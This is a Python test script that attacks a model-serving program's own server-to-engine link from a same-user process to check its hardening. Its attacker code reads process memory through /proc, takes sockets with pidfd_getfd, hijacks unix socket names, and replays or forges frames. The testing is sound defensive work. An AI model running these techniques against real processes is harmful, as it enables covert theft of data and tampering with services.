"""The link between ``spear serve``'s HTTP server and its engine core, attacked by a process of the
same user (core/wire.py says what holds and what does not).

    python benchmarks/attack_core_sockets.py                         # the default model, 10 starts
    python benchmarks/attack_core_sockets.py --model PATH --races 3 --out results.json

Each race starts ``spear serve`` and, a few milliseconds later, an attacker process of the same
user. Run as root, the script starts both without any capability (setpriv: empty bounding and
inheritable sets), which makes root an unprivileged user like any other: same uid, no
CAP_SYS_PTRACE. Until the server answers /health the attacker loops as fast as it can over:
- names: every unix socket under the server's TMPDIR, and every one /proc/net/unix lists that is
  new since the start and under that TMPDIR or abstract with "spear" or "zmq" in its name (the
  socket folder of builds before 2026-12-07): it connects to it, and binds in its place;
- memory: it opens /proc/<pid>/mem and maps of the server and of each process under it (the
  engine core: forked by ``spear serve``'s command line at its start and named spear-core, or
  spawned by builds before 2026-12-07), and keeps what opens;
- descriptors: pidfd_getfd of their descriptors 0..127, keeping the sockets.
Then a client sends a greedy completion whose prompt holds a random marker. The attacker then
tries again on the running processes (memory, descriptors), and looks for the marker (its text,
or its token ids as msgpack or int64) in all it holds: memory opened during the start, frames
read from taken descriptors. It writes every frame it read back where it read it (a replay), and
a forged frame into every socket it took.
The client's text must equal a clean in-process run's (neither side took a frame of the
attacker's), and the server's /metrics count of dropped frames is read after the replay.

Printed: one JSON line per race (what opened, when, what was found), then a summary line.
``spear serve``'s server makes itself non-dumpable once its code runs: an attacker that opens its
memory in the moments before (the interpreter's start) keeps it. Its core is forked from it then
(spear/serve/core/zygote.py), non-dumpable from its first instruction; a spawned core (builds
before 2026-12-07) made itself so once its interpreter had started. The "window" fields measure,
for the server and the core, the time from the attacker's first sight of the process to the first
refusal of its memory (core/wire.py names these limits).
"""

from __future__ import annotations

import argparse
import ctypes
import json
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

_SYS_PIDFD_GETFD = 438  # the same number on x86-64 and arm64


# ---------------------------------------------------------------------------------- the attacker
class _Attacker:
    """Runs as the server's user: takes what it can of the server's processes and their link."""

    def __init__(self, server: int, tmpdir: Path):
        self.server, self.tmpdir, self.t0 = server, tmpdir, time.monotonic()
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.first_seen: dict[int, float] = {}
        self.parent: dict[int, int] = {}
        self.mem: dict[int, tuple[int, int | None, float]] = {}  # pid -> (mem fd, maps fd, when opened)
        self.mem_refused: dict[int, tuple[str, float]] = {}  # pid -> (why, when: its first refusal)
        self.fds: dict[tuple[int, int], socket.socket] = {}
        self.fd_refused: dict[int, str] = {}
        self.names: dict[str, dict] = {}
        self.read: dict[tuple[int, int], bytearray] = {}
        self.baseline = set(self._unix_paths())

    def now(self) -> float:
        return round(time.monotonic() - self.t0, 4)

    def pids(self) -> list[int]:
        """The server and every process under it (the engine core, multiprocessing's helpers)."""
        parents = {}
        for name in os.listdir("/proc"):
            if name.isdigit():
                try:
                    with open(f"/proc/{name}/stat") as f:
                        parents[int(name)] = int(f.read().rsplit(")", 1)[1].split()[1])
                except (OSError, IndexError, ValueError):
                    pass
        out, todo = [], [self.server]
        while todo:
            pid = todo.pop()
            out.append(pid)
            todo += [child for child, parent in parents.items() if parent == pid]
        for pid in out[1:]:
            self.parent.setdefault(pid, parents[pid])
        return out

    def _unix_paths(self) -> list[str]:
        try:
            with open("/proc/net/unix") as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            return []
        return [r.split(None, 7)[7] for r in rows if len(r.split(None, 7)) == 8]

    def sweep(self) -> None:
        for pid in self.pids():
            self.first_seen.setdefault(pid, self.now())
            if pid not in self.mem_refused:  # until refused: when it is, the process turned non-dumpable
                self._open_memory(pid)
            self._take_descriptors(pid)
        self._try_names()

    def _open_memory(self, pid: int) -> None:
        """Keeps the first /proc/<pid>/mem and maps that open: both are checked when opened only, so
        what opens in a process's first moments reads all of it later."""
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except FileNotFoundError:  # gone
            return
        except OSError as exc:
            self.mem_refused[pid] = (type(exc).__name__, self.now())
            return
        if pid in self.mem:
            os.close(fd)
            return
        try:
            maps = os.open(f"/proc/{pid}/maps", os.O_RDONLY)
        except OSError:  # refused between the two: the memory alone is no map of it
            maps = None
        self.mem[pid] = (fd, maps, self.now())

    def _take_descriptors(self, pid: int) -> None:
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            return
        try:
            for target in range(128):
                if (pid, target) in self.fds:
                    continue
                fd = self.libc.syscall(_SYS_PIDFD_GETFD, pidfd, target, 0)
                if fd < 0:
                    err = ctypes.get_errno()
                    if err == 1:  # EPERM: this process may not take it (ptrace's check)
                        self.fd_refused[pid] = "EPERM"
                        return
                    continue  # EBADF: no such descriptor
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    sock = socket.socket(fileno=fd)
                    sock.setblocking(False)
                    self.fds[(pid, target)] = sock
                    self.read[(pid, target)] = bytearray()
                else:
                    os.close(fd)
        finally:
            os.close(pidfd)

    def _try_names(self) -> None:
        paths = [str(p) for p in self.tmpdir.rglob("*") if p.is_socket()] if self.tmpdir.exists() else []
        for path in self._unix_paths():
            if path in self.baseline:
                continue
            if path.startswith(str(self.tmpdir)) or (path.startswith("@") and ("spear" in path or "zmq" in path)):
                paths.append(path)
        for path in paths:
            entry = self.names.setdefault(path, {"seen": self.now(), "connected": False, "bound": False})
            address = "\0" + path[1:] if path.startswith("@") else path
            if not entry["connected"]:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                    try:
                        s.connect(address)
                        entry["connected"] = self.now()
                    except OSError:
                        pass
            if not entry["bound"] and not path.startswith("@"):
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                try:
                    os.unlink(path)
                    s.bind(path)
                    s.listen()
                    entry["bound"] = self.now()
                    entry["socket"] = s  # kept: a peer that connects to the name now reaches us
                except OSError:
                    s.close()

    def drain(self) -> None:
        for key, sock in self.fds.items():
            while True:
                try:
                    chunk = sock.recv(1 << 20)
                except (BlockingIOError, InterruptedError):
                    break
                except OSError:
                    break
                if not chunk:
                    break
                self.read[key] += chunk

    def late(self) -> dict:
        """On the running server: memory and descriptors again (they must be refused now)."""
        out = {}
        for pid in self.pids():
            try:
                os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
                out[pid] = {"mem": "opened"}
            except OSError as exc:
                out[pid] = {"mem": type(exc).__name__}
            try:
                pidfd = os.pidfd_open(pid)
                fd = self.libc.syscall(_SYS_PIDFD_GETFD, pidfd, 0, 0)
                out[pid]["pidfd_getfd"] = "taken" if fd >= 0 else os.strerror(ctypes.get_errno())
                if fd >= 0:
                    os.close(fd)
                os.close(pidfd)
            except OSError as exc:
                out[pid]["pidfd_getfd"] = type(exc).__name__
        return out

    def search(self, patterns: dict[str, bytes]) -> dict:
        """Where each pattern was found: the memory opened during the start, the frames read."""
        found = {}
        for pid, (fd, maps_fd, _) in self.mem.items():
            maps = b""
            try:
                while maps_fd is not None and (chunk := os.pread(maps_fd, 1 << 20, len(maps))):
                    maps += chunk
            except OSError:  # the process is gone
                continue
            for line in maps.decode().splitlines():
                parts = line.split()
                if "r" not in parts[1] or (len(parts) > 5 and not parts[5].startswith("[")):
                    continue  # anonymous memory and the heap hold what the process received
                start, end = (int(x, 16) for x in parts[0].split("-"))
                for offset in range(start, end, 1 << 24):
                    try:
                        data = os.pread(fd, min(1 << 24, end - offset), offset)
                    except OSError:
                        break
                    for name, pattern in patterns.items():
                        if pattern in data:
                            found.setdefault(name, set()).add(f"memory of {pid}")
        for key, data in self.read.items():
            for name, pattern in patterns.items():
                if pattern in data:
                    found.setdefault(name, set()).add(f"frames read from {key}")
        return {k: sorted(v) for k, v in found.items()}

    def replay(self) -> tuple[int, int]:
        """Writes every byte read from a taken descriptor back into it, and a forged frame (an
        unsigned CoreOutputs, after its length) into each; the bytes replayed and the frames forged."""
        replayed = forged = 0
        frame = b"\0" * 32 + b"\x92\xabCoreOutputs\x90"
        for key, sock in self.fds.items():
            try:
                sock.setblocking(True)
                if self.read[key]:
                    sock.sendall(bytes(self.read[key]))
                    replayed += len(self.read[key])
                sock.sendall(len(frame).to_bytes(4, "big") + frame)
                forged += 1
            except OSError:
                pass
        return replayed, forged


def _cmdline(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")[:120]
    except OSError:
        return "?"


def _name(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/comm") as f:
            return f.read().strip()
    except OSError:
        return "?"


def _role(pid: int, server: int, parent: int | None, cmdline: str) -> str:
    """The server; the core (the server's child: forked, or spawned); multiprocessing's resource
    tracker (a spawn's helper, dumpable, holding nothing of theirs); a process under the core."""
    if pid == server:
        return "server"
    if "resource_tracker" in cmdline:
        return "resource tracker"
    return "core" if parent == server else "under the core"


def attacker_main(args) -> int:
    a = _Attacker(args.server_pid, Path(args.tmpdir))
    go, sweeps = Path(args.go), 0
    while not go.exists():
        a.sweep()
        a.drain()
        sweeps += 1
        time.sleep(0.001)
    start_fds = len(a.fds)
    late = a.late()
    patterns_file = Path(args.go).read_text()
    wanted = {k: bytes.fromhex(v) for k, v in json.loads(patterns_file).items()}
    time.sleep(1.0)  # the request's frames
    a.drain()
    found = a.search(wanted)
    replayed, forged = a.replay()
    report = {
        "sweeps": sweeps,
        "pids": {pid: {"role": _role(pid, a.server, a.parent.get(pid), _cmdline(pid)), "name": _name(pid),
                       "parent": a.parent.get(pid), "cmdline": _cmdline(pid), "first_seen_s": a.first_seen.get(pid),
                       "memory_opened_s": a.mem[pid][2] if pid in a.mem else None,
                       "memory_refused": a.mem_refused.get(pid), "descriptors_refused": a.fd_refused.get(pid)}
                 for pid in a.first_seen},
        "names": {p: {k: v for k, v in e.items() if k != "socket"} for p, e in a.names.items()},
        "sockets_taken_during_start": start_fds,
        "sockets_taken": [f"{pid}:{fd}" for pid, fd in a.fds],
        "bytes_read_from_taken_sockets": sum(len(v) for v in a.read.values()),
        "late": late, "found": found, "bytes_replayed": replayed, "frames_forged": forged,
    }
    print(json.dumps(report, default=str), flush=True)
    Path(args.go + ".replayed").touch()
    time.sleep(2.0)  # the server counts the replay before the attacker's descriptors close
    return 0


# ---------------------------------------------------------------------------------- the races
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _metrics(url: str) -> dict[str, float]:
    import httpx

    out = {}
    for line in httpx.get(url + "/metrics", timeout=10).text.splitlines():
        if line.startswith("spear_core_frames_dropped_total{"):
            name, value = line.rsplit(" ", 1)
            out[name[len("spear_core_frames_dropped_total"):]] = float(value)
    return out


def race(i: int, args, model: Path, scratch: Path, want: str, prompt: str, patterns: dict, prefix: list[str]) -> dict:
    import httpx

    tmpdir, go = scratch / f"tmp{i}", scratch / f"go{i}"
    tmpdir.mkdir()
    port = _free_port()
    url = f"http://127.0.0.1:{port}"
    env = {**os.environ, "TMPDIR": str(tmpdir)}
    log = open(scratch / f"server{i}.log", "w")
    server = subprocess.Popen([*prefix, sys.executable, "-m", "spear", "-q", "serve", "--model", str(model), "--port",
                               str(port), "--served-model-name", "m", "--log-level", "warning"], stdout=log,
                              stderr=log, env=env)
    attacker = subprocess.Popen([*prefix, sys.executable, __file__, "--attacker", "--server-pid", str(server.pid),
                                 "--tmpdir", str(tmpdir), "--go", str(go)], stdout=subprocess.PIPE, text=True, env=env)
    started, result = time.monotonic(), {"race": i}
    try:
        while True:
            assert server.poll() is None, f"the server exited: {(scratch / f'server{i}.log').read_text()[-2000:]}"
            try:
                if httpx.get(url + "/health", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert time.monotonic() - started < args.start_timeout, "the server did not start"
            time.sleep(0.2)
        result["server_ready_s"] = round(time.monotonic() - started, 1)
        try:
            r = httpx.post(url + "/v1/completions", json={"model": "m", "prompt": prompt, "max_tokens": 16,
                                                          "temperature": 0}, timeout=60)
            text = r.json()["choices"][0]["text"] if r.status_code == 200 else f"HTTP {r.status_code}"
        except httpx.TransportError as exc:
            text = f"failed: {exc!r}"
        result["text_equals_clean_run"] = text == want
        go.write_text(json.dumps({k: v.hex() for k, v in patterns.items()}))
        deadline = time.monotonic() + 120
        while not Path(str(go) + ".replayed").exists() and attacker.poll() is None:
            assert time.monotonic() < deadline, "the attacker did not finish"
            time.sleep(0.1)
        time.sleep(1.0)  # the next heartbeat carries the core's count
        result["dropped_frames"] = _metrics(url)
        result["health_after"] = httpx.get(url + "/health", timeout=5).status_code
        out, _ = attacker.communicate(timeout=60)
        result["attacker"] = json.loads(out.strip().splitlines()[-1])
    finally:
        if attacker.poll() is None:
            attacker.kill()
        server.terminate()
        try:
            server.wait(60)
        except subprocess.TimeoutExpired:
            server.kill()
        log.close()
    return result


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--model", default="smollm2-135m", help="a model folder or the embedded default's name")
    p.add_argument("--races", type=int, default=10)
    p.add_argument("--start-timeout", type=float, default=300.0)
    p.add_argument("--out", help="also write the JSON lines here")
    p.add_argument("--attacker", action="store_true", help=argparse.SUPPRESS)
    p.add_argument("--server-pid", type=int, help=argparse.SUPPRESS)
    p.add_argument("--tmpdir", help=argparse.SUPPRESS)
    p.add_argument("--go", help=argparse.SUPPRESS)
    args = p.parse_args(argv)
    if args.attacker:
        return attacker_main(args)

    import datetime
    import platform
    import secrets
    import shutil
    import tempfile

    import msgspec

    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from spear.models.loading import resolve_model_path
    from spear.serve import EngineConfig, LLMEngine, SamplingParams

    scratch = Path(tempfile.mkdtemp(prefix="spear-attack-"))
    # root without capabilities is one user like any other (no CAP_SYS_PTRACE); elsewhere, this user
    prefix = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--"] if os.geteuid() == 0 else []
    model = resolve_model_path(args.model)
    marker = "zq" + secrets.token_hex(8)
    prompt = f"The passphrase is {marker}. Say it again:"
    engine = LLMEngine.from_pretrained(str(model), EngineConfig(num_blocks=256))
    want = engine.generate([prompt], SamplingParams(max_tokens=16, temperature=0))[0].text
    ids = engine.tokenize(prompt)
    del engine
    middle = ids[len(ids) // 4:len(ids) // 4 + 6]
    patterns = {"prompt text": marker.encode(),
                "prompt ids (msgpack)": b"".join(msgspec.msgpack.encode(t) for t in middle),
                "prompt ids (int64)": b"".join(t.to_bytes(8, "little") for t in middle)}
    print(f"Link attack, {datetime.date.today().isoformat()}, {platform.processor() or platform.machine()}, "
          f"{os.cpu_count()} CPUs, model {args.model}, both processes {'root without capabilities' if prefix else 'this user'}"
          f", {args.races} races", flush=True)
    rows = []
    try:
        for i in range(args.races):
            row = race(i, args, model, scratch, want, prompt, patterns, prefix)
            rows.append(row)
            print(json.dumps(row, default=str), flush=True)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    a = [r["attacker"] for r in rows]

    def ours(x: dict, pid: str) -> bool:
        return x["pids"].get(pid, {}).get("role") in ("server", "core")

    def windows(role: str) -> list[float]:
        """Seconds from a process's first sight to the first refusal of its memory (non-dumpable)."""
        return [round(p["memory_refused"][1] - p["first_seen_s"], 2) for x in a for p in x["pids"].values()
                if p["role"] == role and p["memory_refused"] and p["memory_refused"][0] == "PermissionError"]

    summary = {
        "races": len(rows),
        "names_found": sum(len(x["names"]) for x in a),
        "connected": sum(bool(e["connected"]) for x in a for e in x["names"].values()),
        "bound": sum(bool(e["bound"]) for x in a for e in x["names"].values()),
        "texts_equal_clean_run": sum(r["text_equals_clean_run"] for r in rows),
        "frames_dropped": [r["dropped_frames"] for r in rows],
        "bytes_replayed": sum(x["bytes_replayed"] for x in a),
        "frames_forged": sum(x["frames_forged"] for x in a),
        # the server and the core (multiprocessing's resource tracker, dumpable, holds nothing of theirs)
        "memory_opened_late": sum(v["mem"] == "opened" and ours(x, pid) for x in a for pid, v in x["late"].items()),
        "descriptors_taken_late": sum(v.get("pidfd_getfd") == "taken" and ours(x, pid)
                                      for x in a for pid, v in x["late"].items()),
        "window_server_s": windows("server"),
        "window_core_s": windows("core"),
        "memory_opened_in_a_window": sum(any(p["memory_opened_s"] is not None and ours(x, pid)
                                             for pid, p in x["pids"].items()) for x in a),
        "sockets_taken_in_a_window": sum(x["sockets_taken_during_start"] for x in a),
        "prompt_found": sum(bool(x["found"]) for x in a),
        "prompt_found_where": sorted({w for x in a for where in x["found"].values() for w in
                                      ("memory opened in a window" if "memory" in v else "frames read" for v in where)}),
    }
    print(json.dumps({"summary": summary}), flush=True)
    if args.out:
        Path(args.out).write_text("\n".join(json.dumps(r, default=str) for r in rows + [{"summary": summary}]) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
